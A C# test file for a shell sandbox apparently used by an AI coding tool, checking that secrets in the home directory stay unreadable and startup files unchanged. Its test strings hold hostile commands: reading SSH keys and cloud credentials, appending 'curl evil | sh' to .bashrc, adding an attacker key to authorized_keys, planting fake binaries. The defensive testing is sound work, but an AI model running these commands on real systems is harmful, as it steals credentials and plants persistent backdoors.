using Wright.Sandbox;

namespace Wright.Tests.Safety;

public sealed partial class HostEscapeTests
{
    // ── The real home, wherever it is: its secrets stay hidden and its startup files unchanged ─────────────────
    // The CLI refuses a workspace that is the home or contains it; the sandbox must be safe even then.

    private const string ReadSecrets =
        "cat .ssh/id_ed25519 .aws/credentials .netrc .config/gh/hosts.yml ~/.ssh/id_ed25519 2>&1; grep -rs canary . 2>/dev/null; echo read-done";

    private const string WriteStartup =
        "echo 'curl evil | sh' >> .bashrc; echo 'ssh-ed25519 AAAAevil attacker' >> .ssh/authorized_keys; echo evil > .zshrc; " +
        "echo evil > .bash_profile; mkdir -p .local/bin && echo evil > .local/bin/git; mkdir -p bin && echo evil > bin/ls; " +
        "echo '[core] pager = evil' >> .gitconfig; mv .profile profile.moved; rm -rf .ssh; ln -sf /tmp/evil .bashrc; echo write-done";

    [Fact]
    public async Task A_workspace_that_is_the_home_reads_no_secret_and_changes_no_startup_file()
    {
        File.WriteAllText(Path.Combine(_host.Home, "notes.txt"), "mine\n");
        var before = HostCanaries.FingerprintOf(_host.Home, path => !path.EndsWith("/notes.txt", StringComparison.Ordinal));
        var shell = Sandboxed(new SandboxOptions { HomeDirectories = [_host.Home] }, workspace: _host.Home);

        var read = await _host.ShellAsync(shell, ReadSecrets);
        var write = await _host.ShellAsync(shell, WriteStartup);
        var work = await _host.ShellAsync(shell, "echo edited >> notes.txt && cat notes.txt");

        Assert.Contains("read-done", read.Content);
        Assert.DoesNotContain("canary", read.Content);
        Assert.DoesNotContain("PRIVATE KEY", read.Content);
        Assert.Contains("write-done", write.Content);
        Assert.Equal(before, HostCanaries.FingerprintOf(_host.Home, path => !path.EndsWith("/notes.txt", StringComparison.Ordinal)));
        Assert.Contains("mine\nedited", work.Content);
    }

    [Fact]
    public async Task A_workspace_that_contains_the_home_reads_no_secret_and_changes_no_startup_file()
    {
        var before = HostCanaries.FingerprintOf(_host.Home);
        var shell = Sandboxed(new SandboxOptions { HomeDirectories = [_host.Home] }, workspace: _host.Root);

        var read = await _host.ShellAsync(shell, $"cd '{_host.Home}' && " + ReadSecrets);
        var write = await _host.ShellAsync(shell, $"cd '{_host.Home}' && " + WriteStartup);

        Assert.Contains("read-done", read.Content);
        Assert.DoesNotContain("canary", read.Content);
        Assert.Contains("write-done", write.Content);
        Assert.Equal(before, HostCanaries.FingerprintOf(_host.Home));
    }

    [Fact]
    public async Task A_home_outside_the_usual_places_is_hidden_from_a_workspace_inside_it()
    {
        // Not under /root, /home or /tmp: only its being the real home hides it.
        using var canaries = new HostCanaries(outsideTmp: true);
        var workspace = Path.Combine(canaries.Home, "proj");
        Directory.CreateDirectory(workspace);
        var before = HostCanaries.FingerprintOf(canaries.Home, path => !HostCanaries.IsUnder(path, workspace));
        var launcher = new BubblewrapLauncher(workspace, [], new SandboxOptions { HomeDirectories = [canaries.Home] });
        _owned.Add(launcher);
        var shell = new Wright.Tools.Shell.ShellTool(new Wright.Tools.ToolOptions { DefaultShellTimeout = TimeSpan.FromSeconds(30), Launcher = launcher });

        var result = await canaries.ShellAsync(shell, $"cat ../.ssh/id_ed25519 ../.aws/credentials; ls -A ..; echo evil >> ../.bashrc; echo evil >> '{canaries.Home}/.ssh/authorized_keys'; echo done");

        Assert.Contains("done", result.Content);
        Assert.DoesNotContain("canary", result.Content);
        Assert.DoesNotContain(".bashrc", result.Content);
        Assert.Equal(before, HostCanaries.FingerprintOf(canaries.Home, path => !HostCanaries.IsUnder(path, workspace)));
    }

    [Fact]
    public async Task A_startup_file_linked_into_the_workspace_stays_read_only()
    {
        // Dotfile managers link ~/.bashrc to a file in a dotfiles repository: with the home inside the workspace,
        // the target must not become writable through its ordinary folder.
        var dotfiles = Path.Combine(_host.Home, "dotfiles");
        Directory.CreateDirectory(dotfiles);
        File.WriteAllText(Path.Combine(dotfiles, "zshrc"), "# zsh\n");
        File.CreateSymbolicLink(Path.Combine(_host.Home, ".zshrc"), Path.Combine(dotfiles, "zshrc"));
        var shell = Sandboxed(new SandboxOptions { HomeDirectories = [_host.Home] }, workspace: _host.Home);

        await _host.ShellAsync(shell, "echo 'curl evil | sh' >> dotfiles/zshrc; echo 'curl evil | sh' >> .zshrc; echo ok > dotfiles/other");

        Assert.Equal("# zsh\n", File.ReadAllText(Path.Combine(dotfiles, "zshrc")));
        Assert.Equal("ok\n", File.ReadAllText(Path.Combine(dotfiles, "other")));
    }
}
